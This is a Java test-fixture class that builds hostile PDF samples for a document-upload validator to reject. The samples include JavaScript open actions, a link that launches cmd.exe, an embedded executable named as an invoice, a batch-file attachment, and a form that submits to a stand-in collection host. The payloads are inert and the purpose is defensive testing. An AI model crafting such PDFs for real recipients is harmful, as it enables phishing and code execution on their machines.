package vn.khuyencong.document;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.LinkedHashMap;
import java.util.Map;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import vn.khuyencong.support.Pdfs;

/**
 * PDFs an officer's reader would run something from, or could not open, each built here from bytes (or with PDFBox,
 * saved as it saves, with its objects packed in compressed object streams), by the reason they are refused.
 */
final class HostilePdfs {

    private HostilePdfs() {}

    static Map<String, byte[]> all() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put(
                "javascript-open-action",
                Pdfs.withCatalog("/OpenAction 6 0 R", "<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\)) >>"));
        files.put(
                "javascript-name-tree",
                Pdfs.withCatalog(
                        "/Names << /JavaScript << /Names [(mo) 6 0 R] >> >>",
                        "<< /S /JavaScript /JS 7 0 R >>",
                        "<< /Length 13 >>\nstream\napp.alert(1);\nendstream"));
        files.put("javascript-in-object-stream", savedByPdfBox());
        files.put(
                "launch-in-annotation",
                Pdfs.withCatalog(
                        "",
                        "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (C:\\\\Windows\\\\cmd.exe) >> >>"));
        files.put(
                "embedded-file",
                Pdfs.withCatalog(
                        "/Names << /EmbeddedFiles << /Names [(hoa-don.exe) 6 0 R] >> >>",
                        "<< /Type /Filespec /F (hoa-don.exe) /EF << /F 7 0 R >> >>",
                        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"));
        files.put(
                "file-attachment-annotation",
                Pdfs.withCatalog(
                        "",
                        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 7 0 R >>",
                        "<< /Type /Filespec /F (x.bat) >>"));
        files.put(
                "form-that-submits",
                Pdfs.withCatalog(
                        "/AcroForm << /Fields [6 0 R] >>",
                        "<< /FT /Btn /T (gui) /Type /Annot /Subtype /Widget /Rect [0 0 50 20]"
                                + " /A << /S /SubmitForm /F << /FS /URL /F (http://thu-thap.example/) >> >> >>"));
        files.put(
                "xfa-form",
                Pdfs.withCatalog(
                        "/AcroForm << /Fields [] /XFA 6 0 R >>", "<< /Length 6 >>\nstream\n<xdp/>\nendstream"));
        files.put("password-protected", encrypted("mat-khau"));
        files.put("corrupt", "%PDF-1.7\nkhông phải PDF\n%%EOF\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        return files;
    }

    /** A PDF whose catalogue opens with a script, saved by PDFBox: the action sits in a compressed object stream. */
    static byte[] savedByPdfBox() {
        try (PDDocument pdf = Loader.loadPDF(Pdfs.onePage("Tai lieu"))) {
            pdf.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.launchURL('http://x.example')"));
            return save(pdf);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A PDF encrypted with {@code userPassword} (empty: anyone may open it, only the owner may change it). */
    static byte[] encrypted(String userPassword) {
        try (PDDocument pdf = Loader.loadPDF(Pdfs.onePage("Tai lieu co bao ve"))) {
            StandardProtectionPolicy policy =
                    new StandardProtectionPolicy("chu-so-huu", userPassword, new AccessPermission());
            policy.setEncryptionKeyLength(128);
            pdf.protect(policy);
            return save(pdf);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] save(PDDocument pdf) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        pdf.save(bytes);
        return bytes.toByteArray();
    }
}
